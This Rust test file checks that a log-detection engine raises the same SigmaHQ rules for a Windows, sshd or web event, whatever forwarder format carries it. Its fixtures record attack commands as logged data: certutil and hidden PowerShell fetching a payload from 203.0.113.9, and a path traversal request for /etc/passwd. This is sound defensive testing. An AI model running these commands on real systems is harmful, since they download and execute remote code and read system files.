//! One event, whatever carried it, raises the same SigmaHQ rules: a differential test per
//! forwarder shape against the event's native form (an EVTX record as the `evtx` crate renders
//! it, a raw syslog line, a bare access line). And events of unknown shape — random text,
//! generic JSON — raise no rule of any product. Rules: SigmaHQ's release in
//! `testdata/sigma/sigma_rules.tar.gz` (see testdata/README.md).
#![allow(clippy::unwrap_used)]

use std::collections::BTreeSet;
use std::sync::OnceLock;

use canhgac_detect::{Builder, CorrelationState, Engine, Event};
use canhgac_ingest::event::{json_line, text_line, Read};
use canhgac_ingest::w3c::W3c;

const NOW: i64 = 1_795_600_000_000; // 2026-11-26

fn engine() -> &'static Engine {
    static E: OnceLock<Engine> = OnceLock::new();
    E.get_or_init(|| {
        let bytes = std::fs::read(
            std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("../../testdata/sigma/sigma_rules.tar.gz"),
        )
        .unwrap();
        let mut b = Builder::new();
        for (name, text) in canhgac_detect::archive::rule_files_from_tar_gz(&bytes).unwrap() {
            // Every published rule set: core, emerging threats, threat hunting.
            if name.contains("/rules") && !name.contains("deprecated") {
                b.add_file(&name, &text);
            }
        }
        b.build()
    })
}

/// The titles of the rules an event raises.
fn fired(ev: &Event<'_>) -> BTreeSet<String> {
    let e = engine();
    let mut s = e.scratch();
    let mut st = CorrelationState::default();
    let mut hits = Vec::new();
    e.process(&mut s, &mut st, ev, &mut hits);
    hits.iter()
        .map(|h| e.rules()[h.rule() as usize].meta.title.clone())
        .collect()
}

fn json(line: &str) -> Read<'_> {
    json_line(line, NOW).unwrap_or_else(|e| panic!("{line}: {e}"))
}

fn text(line: &str) -> Read<'static> {
    let (r, err) = text_line(line, NOW);
    assert!(err.is_none(), "{line}: {err:?}");
    r
}

/// Asserts that every shape raises exactly what the reference raises, and that the reference
/// raises every rule in `expect`.
fn same_rules(what: &str, reference: &Event<'_>, expect: &[&str], shapes: &[(&str, Read<'_>)]) {
    let want = fired(reference);
    for e in expect {
        assert!(
            want.contains(*e),
            "{what}: the reference does not raise {e:?}: {want:?}"
        );
    }
    for (name, r) in shapes {
        let got = fired(&r.event);
        assert_eq!(got, want, "{what} as {name} ({}): {:?}", r.format, r.event);
    }
}

const SYSMON_EVTX: &str = r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"}},"EventID":1,"Version":5,"Level":4,"Task":1,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-25T02:00:00.123456Z"}},"EventRecordID":4242,"Correlation":null,"Execution":{"#attributes":{"ProcessID":3120,"ThreadID":4012}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ktv-pc07.stttt.local","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-","UtcTime":"2026-11-25 02:00:00.120","ProcessGuid":"{2d4c7a3e-0a6e-6745-4b01-000000000b00}","ProcessId":6644,"Image":"C:\\Windows\\System32\\certutil.exe","FileVersion":"10.0.19041.1","Description":"CertUtil.exe","Product":"Microsoft Windows Operating System","Company":"Microsoft Corporation","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://203.0.113.9/mimikatz.exe C:\\Users\\Public\\m.exe","CurrentDirectory":"C:\\Users\\an.nv\\","User":"STTTT\\an.nv","LogonGuid":"{2d4c7a3e-0a6e-6745-0000-0020e7030000}","LogonId":"0x3e7","TerminalSessionId":1,"IntegrityLevel":"High","Hashes":"SHA256=0A5C0F0E3F1B2C7D7E0B4E6E6B7E4F3A2C1D0E9F8A7B6C5D4E3F2A1B0C9D8E7F","ParentProcessGuid":"{2d4c7a3e-0a6e-6745-4a01-000000000b00}","ParentProcessId":5120,"ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"cmd.exe /c certutil.exe -urlcache -split -f http://203.0.113.9/mimikatz.exe C:\\Users\\Public\\m.exe","ParentUser":"STTTT\\an.nv"}}}"##;

/// The same Sysmon event as Winlogbeat 8 (ECS) writes it.
const SYSMON_WINLOGBEAT: &str = r##"{"@timestamp":"2026-11-25T02:00:00.123Z","agent":{"type":"winlogbeat","version":"8.15.0"},"ecs":{"version":"8.0.0"},"event":{"code":"1","kind":"event","provider":"Microsoft-Windows-Sysmon","action":"Process Create (rule: ProcessCreate)","created":"2026-11-25T02:00:01.001Z"},"host":{"name":"ktv-pc07.stttt.local"},"log":{"level":"information"},"message":"Process Create:\nRuleName: -\nImage: C:\\Windows\\System32\\certutil.exe","winlog":{"api":"wineventlog","channel":"Microsoft-Windows-Sysmon/Operational","computer_name":"ktv-pc07.stttt.local","event_id":"1","opcode":"Info","process":{"pid":3120,"thread":{"id":4012}},"provider_guid":"{5770385f-c22a-43e0-bf4c-06f5698ffbd9}","provider_name":"Microsoft-Windows-Sysmon","record_id":"4242","task":"Process Create (rule: ProcessCreate)","user":{"domain":"NT AUTHORITY","identifier":"S-1-5-18","name":"SYSTEM","type":"User"},"version":5,"event_data":{"RuleName":"-","UtcTime":"2026-11-25 02:00:00.120","ProcessGuid":"{2d4c7a3e-0a6e-6745-4b01-000000000b00}","ProcessId":"6644","Image":"C:\\Windows\\System32\\certutil.exe","FileVersion":"10.0.19041.1","Description":"CertUtil.exe","Product":"Microsoft Windows Operating System","Company":"Microsoft Corporation","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://203.0.113.9/mimikatz.exe C:\\Users\\Public\\m.exe","CurrentDirectory":"C:\\Users\\an.nv\\","User":"STTTT\\an.nv","LogonGuid":"{2d4c7a3e-0a6e-6745-0000-0020e7030000}","LogonId":"0x3e7","TerminalSessionId":"1","IntegrityLevel":"High","Hashes":"SHA256=0A5C0F0E3F1B2C7D7E0B4E6E6B7E4F3A2C1D0E9F8A7B6C5D4E3F2A1B0C9D8E7F","ParentProcessGuid":"{2d4c7a3e-0a6e-6745-4a01-000000000b00}","ParentProcessId":"5120","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"cmd.exe /c certutil.exe -urlcache -split -f http://203.0.113.9/mimikatz.exe C:\\Users\\Public\\m.exe","ParentUser":"STTTT\\an.nv"}}}"##;

/// Winlogbeat 6 (`event_data`, `log_name`).
const SYSMON_WINLOGBEAT6: &str = r##"{"@timestamp":"2026-11-25T02:00:00.123Z","beat":{"name":"ktv-pc07","version":"6.8.23"},"computer_name":"ktv-pc07.stttt.local","event_id":1,"level":"Information","log_name":"Microsoft-Windows-Sysmon/Operational","record_number":"4242","source_name":"Microsoft-Windows-Sysmon","type":"wineventlog","event_data":{"RuleName":"-","UtcTime":"2026-11-25 02:00:00.120","ProcessId":"6644","Image":"C:\\Windows\\System32\\certutil.exe","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://203.0.113.9/mimikatz.exe C:\\Users\\Public\\m.exe","CurrentDirectory":"C:\\Users\\an.nv\\","User":"STTTT\\an.nv","LogonId":"0x3e7","IntegrityLevel":"High","Hashes":"SHA256=0A5C0F0E3F1B2C7D7E0B4E6E6B7E4F3A2C1D0E9F8A7B6C5D4E3F2A1B0C9D8E7F","ParentProcessId":"5120","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"cmd.exe /c certutil.exe -urlcache -split -f http://203.0.113.9/mimikatz.exe C:\\Users\\Public\\m.exe","Description":"CertUtil.exe","Product":"Microsoft Windows Operating System","Company":"Microsoft Corporation","FileVersion":"10.0.19041.1","ParentUser":"STTTT\\an.nv"}}"##;

/// NXLog `im_msvistalog` + `to_json()`.
const SYSMON_NXLOG: &str = r##"{"EventTime":"2026-11-25 09:00:00","Hostname":"ktv-pc07.stttt.local","Keywords":-9223372036854775808,"EventType":"INFO","SeverityValue":2,"Severity":"INFO","EventID":1,"SourceName":"Microsoft-Windows-Sysmon","ProviderGuid":"{5770385F-C22A-43E0-BF4C-06F5698FFBD9}","Version":5,"Task":1,"OpcodeValue":0,"RecordNumber":4242,"ProcessID":3120,"ThreadID":4012,"Channel":"Microsoft-Windows-Sysmon/Operational","Domain":"NT AUTHORITY","AccountName":"SYSTEM","UserID":"S-1-5-18","AccountType":"User","Category":"Process Create (rule: ProcessCreate)","Opcode":"Info","RuleName":"-","UtcTime":"2026-11-25 02:00:00.120","ProcessGuid":"{2d4c7a3e-0a6e-6745-4b01-000000000b00}","ProcessId":"6644","Image":"C:\\Windows\\System32\\certutil.exe","FileVersion":"10.0.19041.1","Description":"CertUtil.exe","Product":"Microsoft Windows Operating System","Company":"Microsoft Corporation","OriginalFileName":"CertUtil.exe","CommandLine":"certutil.exe -urlcache -split -f http://203.0.113.9/mimikatz.exe C:\\Users\\Public\\m.exe","CurrentDirectory":"C:\\Users\\an.nv\\","User":"STTTT\\an.nv","LogonGuid":"{2d4c7a3e-0a6e-6745-0000-0020e7030000}","LogonId":"0x3e7","TerminalSessionId":"1","IntegrityLevel":"High","Hashes":"SHA256=0A5C0F0E3F1B2C7D7E0B4E6E6B7E4F3A2C1D0E9F8A7B6C5D4E3F2A1B0C9D8E7F","ParentProcessGuid":"{2d4c7a3e-0a6e-6745-4a01-000000000b00}","ParentProcessId":"5120","ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"cmd.exe /c certutil.exe -urlcache -split -f http://203.0.113.9/mimikatz.exe C:\\Users\\Public\\m.exe","ParentUser":"STTTT\\an.nv","EventReceivedTime":"2026-11-25 09:00:01","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}"##;

/// Windows Event Forwarding's rendered XML of the same event.
const SYSMON_WEF: &str = r##"<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385F-C22A-43E0-BF4C-06F5698FFBD9}"/><EventID>1</EventID><Version>5</Version><Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-11-25T02:00:00.123456Z"/><EventRecordID>4242</EventRecordID><Correlation/><Execution ProcessID="3120" ThreadID="4012"/><Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>ktv-pc07.stttt.local</Computer><Security UserID="S-1-5-18"/></System><EventData><Data Name="RuleName">-</Data><Data Name="UtcTime">2026-11-25 02:00:00.120</Data><Data Name="ProcessGuid">{2d4c7a3e-0a6e-6745-4b01-000000000b00}</Data><Data Name="ProcessId">6644</Data><Data Name="Image">C:\Windows\System32\certutil.exe</Data><Data Name="FileVersion">10.0.19041.1</Data><Data Name="Description">CertUtil.exe</Data><Data Name="Product">Microsoft Windows Operating System</Data><Data Name="Company">Microsoft Corporation</Data><Data Name="OriginalFileName">CertUtil.exe</Data><Data Name="CommandLine">certutil.exe -urlcache -split -f http://203.0.113.9/mimikatz.exe C:\Users\Public\m.exe</Data><Data Name="CurrentDirectory">C:\Users\an.nv\</Data><Data Name="User">STTTT\an.nv</Data><Data Name="LogonGuid">{2d4c7a3e-0a6e-6745-0000-0020e7030000}</Data><Data Name="LogonId">0x3e7</Data><Data Name="TerminalSessionId">1</Data><Data Name="IntegrityLevel">High</Data><Data Name="Hashes">SHA256=0A5C0F0E3F1B2C7D7E0B4E6E6B7E4F3A2C1D0E9F8A7B6C5D4E3F2A1B0C9D8E7F</Data><Data Name="ParentProcessGuid">{2d4c7a3e-0a6e-6745-4a01-000000000b00}</Data><Data Name="ParentProcessId">5120</Data><Data Name="ParentImage">C:\Windows\System32\cmd.exe</Data><Data Name="ParentCommandLine">cmd.exe /c certutil.exe -urlcache -split -f http://203.0.113.9/mimikatz.exe C:\Users\Public\m.exe</Data><Data Name="ParentUser">STTTT\an.nv</Data></EventData><RenderingInfo Culture="en-US"><Message>Process Create</Message></RenderingInfo></Event>"##;

fn sysmon_reference() -> Event<'static> {
    let v: serde_json::Value = serde_json::from_str(SYSMON_EVTX).unwrap();
    canhgac_ingest::event::from_normalized(canhgac_ingest::normalize::windows_flatten(&v), None)
}

#[test]
fn sysmon_process_creation_through_every_windows_forwarder() {
    let nxlog_syslog = format!(
        "<14>Nov 25 09:00:00 ktv-pc07.stttt.local Microsoft-Windows-Sysmon[3120]: {SYSMON_NXLOG}"
    );
    let wef_syslog = format!("<14>1 2026-11-25T02:00:00Z ktv-pc07 wef - - - {SYSMON_WEF}");
    let shapes = [
        ("evtx JSON line", json(SYSMON_EVTX)),
        ("Winlogbeat 8", json(SYSMON_WINLOGBEAT)),
        ("Winlogbeat 6", json(SYSMON_WINLOGBEAT6)),
        ("NXLog JSON", json(SYSMON_NXLOG)),
        ("WEF XML", text(SYSMON_WEF)),
        ("NXLog JSON over syslog", text(&nxlog_syslog)),
        (
            "WEF XML line",
            text(wef_syslog.split_once(" - - - ").unwrap().1),
        ),
    ];
    let formats: Vec<&str> = shapes.iter().map(|(_, r)| r.format).collect();
    assert_eq!(
        formats,
        [
            "evtx-json",
            "winlogbeat",
            "winlogbeat-6",
            "nxlog",
            "wef-xml",
            "syslog-windows",
            "wef-xml"
        ]
    );
    same_rules(
        "Sysmon 1",
        &sysmon_reference(),
        &["Suspicious Download Via Certutil.EXE"],
        &shapes,
    );
    let hits = fired(&sysmon_reference());
    assert!(hits.iter().any(|t| t.contains("Mimikatz")), "{hits:?}");
}

const CLEARED_EVTX: &str = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Eventlog","Guid":"{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"}},"EventID":1102,"Version":0,"Level":4,"Task":104,"Opcode":0,"Keywords":"0x4020000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-25T02:05:00.000000Z"}},"EventRecordID":99001,"Correlation":null,"Execution":{"#attributes":{"ProcessID":1060,"ThreadID":7512}},"Channel":"Security","Computer":"ktv-pc07.stttt.local","Security":null},"UserData":{"LogFileCleared":{"#attributes":{"xmlns":"http://manifests.microsoft.com/win/2004/08/windows/eventlog"},"SubjectUserSid":"S-1-5-21-1-2-3-1104","SubjectUserName":"an.nv","SubjectDomainName":"STTTT","SubjectLogonId":"0x5e2a1"}}}}"##;

const CLEARED_WINLOGBEAT: &str = r##"{"@timestamp":"2026-11-25T02:05:00.000Z","event":{"code":"1102","kind":"event","provider":"Microsoft-Windows-Eventlog","action":"clearing-event-logs"},"host":{"name":"ktv-pc07.stttt.local"},"message":"The audit log was cleared.","winlog":{"channel":"Security","computer_name":"ktv-pc07.stttt.local","event_id":"1102","provider_guid":"{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}","provider_name":"Microsoft-Windows-Eventlog","record_id":"99001","keywords":["Audit Success"],"user_data":{"xml_name":"LogFileCleared","SubjectUserSid":"S-1-5-21-1-2-3-1104","SubjectUserName":"an.nv","SubjectDomainName":"STTTT","SubjectLogonId":"0x5e2a1"}}}"##;

const CLEARED_WEF: &str = r##"<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Eventlog" Guid="{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}"/><EventID>1102</EventID><Version>0</Version><Level>4</Level><Task>104</Task><Opcode>0</Opcode><Keywords>0x4020000000000000</Keywords><TimeCreated SystemTime="2026-11-25T02:05:00.000000Z"/><EventRecordID>99001</EventRecordID><Correlation/><Execution ProcessID="1060" ThreadID="7512"/><Channel>Security</Channel><Computer>ktv-pc07.stttt.local</Computer><Security/></System><UserData><LogFileCleared xmlns="http://manifests.microsoft.com/win/2004/08/windows/eventlog"><SubjectUserSid>S-1-5-21-1-2-3-1104</SubjectUserSid><SubjectUserName>an.nv</SubjectUserName><SubjectDomainName>STTTT</SubjectDomainName><SubjectLogonId>0x5e2a1</SubjectLogonId></LogFileCleared></UserData></Event>"##;

const SERVICE_EVTX: &str = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Service Control Manager","Guid":"{555908d1-a6d7-4695-8e1e-26931d2012f4}","EventSourceName":"Service Control Manager"}},"EventID":{"#text":7045,"#attributes":{"Qualifiers":16384}},"Version":0,"Level":4,"Task":0,"Opcode":0,"Keywords":"0x8080000000000000","TimeCreated":{"#attributes":{"SystemTime":"2026-11-25T02:06:00.000000Z"}},"EventRecordID":5120,"Correlation":null,"Execution":{"#attributes":{"ProcessID":720,"ThreadID":5580}},"Channel":"System","Computer":"ktv-pc07.stttt.local","Security":{"#attributes":{"UserID":"S-1-5-21-1-2-3-1104"}}},"EventData":{"ServiceName":"WinUpdSvc","ImagePath":"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c IEX ((new-object net.webclient).downloadstring('http://203.0.113.9/a'))","ServiceType":"user mode service","StartType":"demand start","AccountName":"LocalSystem"}}}"##;

const SERVICE_WINLOGBEAT: &str = r##"{"@timestamp":"2026-11-25T02:06:00.000Z","event":{"code":"7045","kind":"event","provider":"Service Control Manager"},"host":{"name":"ktv-pc07.stttt.local"},"winlog":{"channel":"System","computer_name":"ktv-pc07.stttt.local","event_id":"7045","provider_guid":"{555908d1-a6d7-4695-8e1e-26931d2012f4}","provider_name":"Service Control Manager","record_id":"5120","event_data":{"ServiceName":"WinUpdSvc","ImagePath":"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c IEX ((new-object net.webclient).downloadstring('http://203.0.113.9/a'))","ServiceType":"user mode service","StartType":"demand start","AccountName":"LocalSystem"}}}"##;

const SERVICE_NXLOG: &str = r##"{"EventTime":"2026-11-25 09:06:00","Hostname":"ktv-pc07.stttt.local","EventID":7045,"SourceName":"Service Control Manager","ProviderGuid":"{555908D1-A6D7-4695-8E1E-26931D2012F4}","Channel":"System","Severity":"INFO","ServiceName":"WinUpdSvc","ImagePath":"%COMSPEC% /b /c start /b /min powershell -nop -w hidden -c IEX ((new-object net.webclient).downloadstring('http://203.0.113.9/a'))","ServiceType":"user mode service","StartType":"demand start","AccountName":"LocalSystem","Provider_Name":"Service Control Manager","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}"##;

fn reference(evtx: &str) -> Event<'static> {
    let v: serde_json::Value = serde_json::from_str(evtx).unwrap();
    canhgac_ingest::event::from_normalized(canhgac_ingest::normalize::windows_flatten(&v), None)
}

#[test]
fn security_1102_and_system_7045_through_forwarders() {
    same_rules(
        "Security 1102",
        &reference(CLEARED_EVTX),
        &["Security Eventlog Cleared"],
        &[
            ("Winlogbeat 8", json(CLEARED_WINLOGBEAT)),
            ("WEF XML", text(CLEARED_WEF)),
        ],
    );
    same_rules(
        "System 7045",
        &reference(SERVICE_EVTX),
        &["Suspicious Service Installation"],
        &[
            ("Winlogbeat 8", json(SERVICE_WINLOGBEAT)),
            ("NXLog JSON", json(SERVICE_NXLOG)),
        ],
    );
    // Neither raises a rule of another product.
    for ev in [reference(CLEARED_EVTX), reference(SERVICE_EVTX)] {
        let e = engine();
        let mut s = e.scratch();
        let mut st = CorrelationState::default();
        let mut hits = Vec::new();
        e.process(&mut s, &mut st, &ev, &mut hits);
        for h in &hits {
            let ls = &e.rules()[h.rule() as usize].logsource;
            assert!(
                ls.product.as_deref().is_none_or(|p| p == "windows"),
                "{}: {:?}",
                e.rules()[h.rule() as usize].meta.title,
                ls
            );
        }
    }
}

#[test]
fn sshd_through_every_syslog_forwarder() {
    let raw = "<38>Nov 25 09:10:00 web01 sshd[4242]: error: Corrupted MAC on input. [preauth]";
    let shapes = [
        (
            "RFC 5424 with structured data",
            text("<38>1 2026-11-25T09:10:00+07:00 web01 sshd 4242 - [origin ip=\"10.0.0.5\" software=\"rsyslogd\"] error: Corrupted MAC on input. [preauth]"),
        ),
        (
            "journald JSON",
            json(r##"{"__CURSOR":"s=1;i=2","__REALTIME_TIMESTAMP":"1795572600000000","_HOSTNAME":"web01","SYSLOG_FACILITY":"4","SYSLOG_IDENTIFIER":"sshd","_PID":"4242","_COMM":"sshd","PRIORITY":"3","MESSAGE":"error: Corrupted MAC on input. [preauth]","_SYSTEMD_UNIT":"ssh.service"}"##),
        ),
        (
            "Vector syslog",
            json(r##"{"appname":"sshd","facility":"auth","host":"web01","hostname":"web01","message":"error: Corrupted MAC on input. [preauth]","procid":4242,"severity":"err","source_type":"syslog","timestamp":"2026-11-25T02:10:00Z"}"##),
        ),
        (
            "Fluent Bit syslog",
            json(r##"{"pri":"38","time":"Nov 25 09:10:00","host":"web01","ident":"sshd","pid":"4242","message":"error: Corrupted MAC on input. [preauth]"}"##),
        ),
        (
            "rsyslog JSON template",
            json(r##"{"timereported":"2026-11-25T09:10:00+07:00","hostname":"web01","programname":"sshd","procid":"4242","syslogfacility-text":"auth","syslogseverity-text":"err","msg":" error: Corrupted MAC on input. [preauth]"}"##),
        ),
        (
            "syslog-ng format-json",
            json(r##"{"PROGRAM":"sshd","PRIORITY":"err","PID":"4242","MESSAGE":"error: Corrupted MAC on input. [preauth]","ISODATE":"2026-11-25T09:10:00+07:00","HOST":"web01","FACILITY":"auth","DATE":"Nov 25 09:10:00"}"##),
        ),
        (
            "Filebeat line",
            json(r##"{"@timestamp":"2026-11-25T02:10:00.000Z","agent":{"type":"filebeat"},"host":{"name":"web01"},"log":{"file":{"path":"/var/log/auth.log"}},"message":"Nov 25 09:10:00 web01 sshd[4242]: error: Corrupted MAC on input. [preauth]"}"##),
        ),
        (
            "Fluent Bit tail",
            json(r##"{"date":1795572600.0,"log":"Nov 25 09:10:00 web01 sshd[4242]: error: Corrupted MAC on input. [preauth]"}"##),
        ),
    ];
    let reference = text(raw);
    assert_eq!(reference.event.source.service.as_deref(), Some("sshd"));
    for (name, r) in &shapes {
        assert_eq!(r.event.get("host"), Some("web01"), "{name}");
        assert_eq!(r.event.get("app"), Some("sshd"), "{name}");
        assert_eq!(r.event.source, reference.event.source, "{name}");
    }
    same_rules(
        "sshd",
        &reference.event,
        &["Suspicious OpenSSH Daemon Error"],
        &shapes,
    );
}

#[test]
fn web_requests_in_every_shape() {
    let bare = r##"203.0.113.9 - - [25/Nov/2026:09:20:00 +0700] "GET /index.php?page=../../../etc/passwd HTTP/1.1" 200 512 "-" "curl/8.5.0""##;
    let mut iis = W3c::new();
    for l in [
        "#Software: Microsoft Internet Information Services 10.0",
        "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
    ] {
        assert!(iis.line(l).unwrap().is_none());
    }
    let iis_rec = iis
        .line("2026-11-25 02:20:00 10.0.0.5 GET /index.php page=../../../etc/passwd 80 - 203.0.113.9 curl/8.5.0 - 200 0 0 15")
        .unwrap()
        .unwrap();
    let shapes = [
        (
            "nginx over syslog",
            text(&format!("<190>Nov 25 09:20:00 web01 nginx: {bare}")),
        ),
        (
            "Apache piped to logger",
            text(&format!("<134>Nov 25 09:20:00 web01 apache2[811]: {bare}")),
        ),
        (
            "httpd over RFC 5424",
            text(&format!(
                "<134>1 2026-11-25T09:20:00+07:00 web01 httpd - - - {bare}"
            )),
        ),
        (
            "access line under any program name",
            text(&format!("<134>Nov 25 09:20:00 web01 web01_access: {bare}")),
        ),
        (
            "nginx JSON",
            json(
                r##"{"time_local":"25/Nov/2026:09:20:00 +0700","remote_addr":"203.0.113.9","remote_user":"","request":"GET /index.php?page=../../../etc/passwd HTTP/1.1","status":"200","body_bytes_sent":"512","http_referer":"","http_user_agent":"curl/8.5.0"}"##,
            ),
        ),
        (
            "ECS",
            json(
                r##"{"@timestamp":"2026-11-25T02:20:00Z","source":{"ip":"203.0.113.9"},"http":{"request":{"method":"GET"},"response":{"status_code":200}},"url":{"original":"/index.php?page=../../../etc/passwd"},"user_agent":{"original":"curl/8.5.0"}}"##,
            ),
        ),
        (
            "Caddy",
            json(
                r##"{"level":"info","ts":1795572000.0,"logger":"http.log.access","msg":"handled request","request":{"remote_ip":"203.0.113.9","proto":"HTTP/1.1","method":"GET","host":"web01","uri":"/index.php?page=../../../etc/passwd","headers":{"User-Agent":["curl/8.5.0"]}},"status":200,"size":512}"##,
            ),
        ),
        (
            "IIS W3C",
            Read {
                event: canhgac_ingest::event::from_normalized(iis_rec, None),
                format: "iis-w3c",
            },
        ),
    ];
    let reference = text(bare);
    for (name, r) in &shapes {
        assert_eq!(
            r.event.source.category.as_deref(),
            Some("webserver"),
            "{name}"
        );
        assert_eq!(r.event.get("c-ip"), Some("203.0.113.9"), "{name}");
        assert_eq!(
            r.event.get("cs-uri-query"),
            Some("page=../../../etc/passwd"),
            "{name}"
        );
        let got = fired(&r.event);
        assert!(
            got.contains("Path Traversal Exploitation Attempts"),
            "{name}: {got:?}"
        );
    }
    assert!(fired(&reference.event).contains("Path Traversal Exploitation Attempts"));
}

#[test]
fn web_server_error_logs() {
    let nginx = r##"2026/11/25 09:30:00 [crit] 811#811: *5 SSL_do_handshake() failed, client: 203.0.113.9, server: 0.0.0.0:443"##;
    let r = text(nginx);
    assert_eq!(r.format, "nginx-error");
    assert_eq!(r.event.source.service.as_deref(), Some("nginx"));
    assert_eq!(r.event.get("c-ip"), Some("203.0.113.9"));
    let apache = "[Wed Nov 25 09:30:01.123456 2026] [core:error] [pid 1234:tid 140] [client 203.0.113.9:51122] AH00126: Invalid URI in request GET /..%2f..%2fetc/passwd HTTP/1.1";
    let r = text(apache);
    assert_eq!(r.format, "apache-error");
    assert_eq!(r.event.source.service.as_deref(), Some("apache"));
    assert_eq!(r.event.get("c-ip"), Some("203.0.113.9"));
    assert_eq!(r.event.get("error_code"), Some("AH00126"));
    // nginx's core dump, bare and over syslog, raises SigmaHQ's nginx rule either way.
    let dump =
        "2026/11/25 09:30:02 [alert] 810#810: worker process 811 exited on signal 6 (core dumped)";
    let over = format!("<187>Nov 25 09:30:02 web01 nginx: {dump}");
    for line in [dump, over.as_str()] {
        let got = fired(&text(line).event);
        assert!(got.contains("Nginx Core Dump"), "{line}: {got:?}");
    }
}

/// A tiny deterministic generator (no dependency): xorshift.
fn noise(seed: u64, n: usize) -> Vec<String> {
    let mut x = seed;
    let mut next = || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    const WORDS: &[&str] = &[
        "rdp",
        "3389",
        "tcp",
        "allow",
        "SYN",
        "cisco",
        "stage",
        "data",
        "copy",
        "tftp",
        "run",
        "id",
        "-",
        "\"",
        "{",
        "}",
        "=",
        ":",
        "|",
        "GET",
        "POST",
        "HTTP/1.1",
        "admin",
        "root",
        "ssh",
        "192.168.1.1",
        "10.0.0.1",
        "conn",
        "state",
        "S0",
        "service",
        "user",
        "password",
        "mimikatz",
        "certutil",
        "whoami",
        "/etc/passwd",
        "../",
        "cmd.exe",
        "powershell",
        "-enc",
    ];
    (0..n)
        .map(|_| {
            let k = 3 + (next() % 20) as usize;
            (0..k)
                .map(|_| {
                    let r = next();
                    if r % 5 == 0 {
                        // random bytes as text
                        (0..(r % 12))
                            .map(|i| char::from(33 + ((r >> (i * 5)) % 94) as u8))
                            .collect()
                    } else {
                        WORDS[(r % WORDS.len() as u64) as usize].to_string()
                    }
                })
                .collect::<Vec<_>>()
                .join(" ")
        })
        .collect()
}

#[test]
fn unknown_shapes_raise_no_rule_of_any_product() {
    let mut n_lines = 0;
    for line in noise(0x9e3779b97f4a7c15, 300) {
        let (r, _) = text_line(&line, NOW);
        if r.event.source.is_unknown() {
            n_lines += 1;
            let got = fired(&r.event);
            assert!(got.is_empty(), "{line}: {got:?}");
        }
    }
    assert!(n_lines > 250, "{n_lines} of 300 lines had no log source");
    for (i, line) in noise(42, 50).into_iter().enumerate() {
        let j = serde_json::json!({"msg": line, "level": "info", "n": i, "id.orig_p": 3389, "id.resp_p": 3389, "conn_state": "S0"})
            .to_string();
        let r = json(&j);
        assert!(r.event.source.is_unknown(), "{j}");
        assert_eq!(r.format, "json");
        let got = fired(&r.event);
        assert!(got.is_empty(), "{j}: {got:?}");
    }
}
